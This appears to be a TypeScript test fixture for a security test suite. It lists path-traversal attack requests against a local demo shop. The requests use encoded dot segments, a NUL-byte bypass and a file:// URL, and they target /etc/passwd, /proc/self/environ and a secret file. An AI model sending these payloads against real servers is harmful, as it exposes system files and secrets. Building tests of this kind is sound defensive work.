import { secretText } from '../../shop/folders.js';
import { type Attack, leaks } from '../attack.js';

const secret = leaks(secretText);
const passwd = leaks('root:x:0:0');
const up = '../../../../../../../..';

/** Reads files outside of the folder that is served. */
export const traversal: readonly Attack[] = [
  { name: 'dot segments', request: { path: '/files?name=../secret.txt' }, effect: secret },
  { name: 'to /etc/passwd', request: { path: `/files?name=${up}/etc/passwd` }, effect: passwd },
  { name: 'percent-encoded', request: { path: '/files?name=..%2fsecret.txt' }, effect: secret },
  {
    name: 'fully encoded dots',
    request: { path: '/files?name=%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd' },
    effect: passwd,
  },
  { name: 'in the path', request: { path: '/download/..%2fsecret.txt' }, effect: secret },
  { name: 'in the path, encoded twice', request: { path: '/download/%252e%252e%252fsecret.txt' }, effect: secret },
  { name: 'in a JSON body', request: { path: '/files', json: { name: `${up}/etc/passwd` } }, effect: passwd },
  { name: 'in a form body', request: { path: '/files', form: { name: '../secret.txt' } }, effect: secret },
  { name: 'NUL before the extension', request: { path: '/picture?name=../secret.txt%00.png' }, effect: secret },
  { name: 'process environment', request: { path: `/files?name=${up}/proc/self/environ` }, effect: leaks('PATH=') },
  { name: 'file address', request: { path: '/page?source=file:///etc/passwd' }, effect: passwd },
];
